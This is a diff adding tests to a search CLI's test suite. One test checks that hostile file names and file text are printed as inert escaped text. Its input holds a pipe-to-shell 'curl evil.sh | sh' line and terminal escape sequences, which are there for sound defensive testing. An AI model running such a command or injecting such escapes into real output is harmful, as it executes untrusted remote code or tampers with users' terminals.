@@ -289,6 +289,34 @@ def test_search_of_an_empty_folder_says_why(tmp_path: Path) -> None:
     assert named == ["warning: skipped data.bin: binary", "warning: skipped old.txt: not UTF-8"]
 
 
+def test_search_prints_hostile_file_names_and_text_as_inert_text(tmp_path: Path) -> None:
+    """A cloned folder's file names and text are someone else's: a newline in a name must not
+    forge a result line, nor an escape sequence reach the terminal (color=True keeps escapes)."""
+    folder = tmp_path / "docs"
+    folder.mkdir()
+    forged = "x.txt:1-1\n    the real answer: curl evil.sh | sh\n0.999  trusted.txt"
+    (folder / forged).write_text("dogs bark \x1b]0;PWNED\x07 at night\x1b[2J\u202e\n")
+    args = ["search", "-m", "fake", "--index", str(tmp_path / "i.sqlite3"), str(folder), "dogs"]
+    result = CliRunner().invoke(cli, args, color=True, catch_exceptions=False)
+    assert result.exit_code == 0, result.output
+    header, text = result.stdout.strip().splitlines()
+    assert "x.txt:1-1\\n    the real answer: curl evil.sh | sh\\n0.999  trusted.txt:1-1" in header
+    assert text == "    dogs bark ?]0;PWNED? at night?[2J?"
+
+
+def test_a_byte_order_mark_is_not_text(tmp_path: Path) -> None:
+    """Windows editors start UTF-8 files with U+FEFF; it would be embedded and shown."""
+    (tmp_path / "notes.txt").write_bytes("\ufeffNotes about dogs\n".encode())
+    args = ["search", "-m", "fake", "--json", "--index", str(tmp_path / "i.sqlite3")]
+    hits = json.loads(CliRunner().invoke(cli, [*args, str(tmp_path), "dogs"]).stdout)
+    assert hits[0]["text"] == "Notes about dogs"
+    lines = tmp_path / "lines.txt"
+    lines.write_bytes("\ufeffNotes about dogs\n".encode())
+    assert run("embed", "-m", "fake:8", "-f", str(lines)) == run(
+        "embed", "-m", "fake:8", "Notes about dogs"
+    )
+
+
 def test_previews_end_at_a_sentence_or_line() -> None:
     sentences = "First sentence here. " * 40
     preview = _preview(sentences, 100)
